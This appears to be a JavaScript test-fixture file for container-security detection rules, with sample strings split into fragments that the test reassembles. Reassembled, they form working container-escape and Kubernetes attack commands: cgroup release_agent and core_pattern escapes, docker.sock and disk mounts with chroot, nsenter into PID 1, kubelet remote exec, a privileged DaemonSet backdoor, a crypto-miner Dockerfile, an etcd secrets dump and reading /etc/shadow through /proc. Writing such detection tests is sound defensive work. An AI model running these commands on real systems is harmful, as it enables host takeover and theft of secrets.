/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'Container_Escape_Release_Agent',
    lines: [
      ["mou", "nt -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/x/notify_on_", "release"],
      ["echo \"$h/cmd\" > /tmp/c/release_", "agent; sh -c \"echo \\$\\$ > /tmp/c/x/cgroup.", "procs\""],
    ],
    without: 0,
  },
  {
    rule: 'Container_Escape_Core_Pattern',
    lines: [
      ["h=$(sed -n 's/.*upper", "dir=\\([^,]*\\).*/\\1/p' /etc/mtab)"],
      ["ec", "ho \"|$h/x.sh\" > /proc/sys/kernel/core_pat", "tern"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Escape_Runc_Overwrite',
    lines: [
      ["#!/proc/self/", "exe"],
      ["ru", "nc"],
      ["/proc/self/", "fd/3"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Escape_Leaky_Vessels',
    lines: [
      ["FR", "OM alpine"],
      ["WORK", "DIR /proc/self/f", "d/8"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Escape_Docker_Socket',
    lines: [
      ["doc", "ker -H unix:///var/run/dock", "er.sock run -v /:/ho", "st alpine chr", "oot /host sh"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Escape_Nsenter_Pid1',
    lines: [
      ["kube", "ctl run x --overrides='{\"spec\":{\"hostPID\":true}}' -- nsen", "ter -t 1 -m -u -i -n -- ba", "sh"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Tool_CDK', as: 'executable',
    lines: [
      ["cdk-team/C", "DK"],
      ["shim-", "pwn"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Tool_Deepce_Amicontained',
    lines: [
      ["DEEP", "CE"],
      ["docker.", "sock"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Tool_Peirates', as: 'executable',
    lines: [
      ["inguard", "ians/peirates"],
      ["Peir", "ates v1"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Tool_Kubeletctl', as: 'executable',
    lines: [
      ["cyber", "ark/kubeletctl"],
      ["/running", "pods"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Kubelet_Exec_Script',
    lines: [
      ["cu", "rl -k https://192.0.2.7:10250/r", "un/default/pod/c -d \"cm", "d=id\""],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Host_Mount_Disk',
    lines: [
      ["test -f /.docker", "env && fdi", "sk -l"],
      ["mou", "nt /dev/sd", "a1 /mnt/h; chr", "oot /mnt/h sh"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Daemonset_Backdoor',
    lines: [
      ["kind: Daemon", "Set"],
      ["privi", "leged: true"],
      ["host", "PID: true"],
      ["command: [\"sh\",\"-c\",\"chr", "oot /host\"]"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Dockerfile_Miner',
    lines: [
      ["FR", "OM alpine"],
      ["RU", "N wget http://192.0.2.7/xm", "rig"],
      ["CMD [\"./a\", \"-o\", \"po", "ol.example:3333\"]"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Kernel_Module_Escape',
    lines: [
      ["apt install linux-head", "ers-$(uname -r); echo call_user", "modehelper"],
      ["ins", "mod x.ko"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Etcd_Secrets_Dump',
    lines: [
      ["etcd", "ctl --endpoints=https://127.0.0.1:2379 get /registry/sec", "rets --prefix | stri", "ngs"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Container_Proc_Root_Traversal',
    lines: [
      ["fo", "r p in /proc/[0-9]*; do ca", "t $p/root/etc/sha", "dow; done"],
      ["#"],
    ],
    without: 0,
  },
];
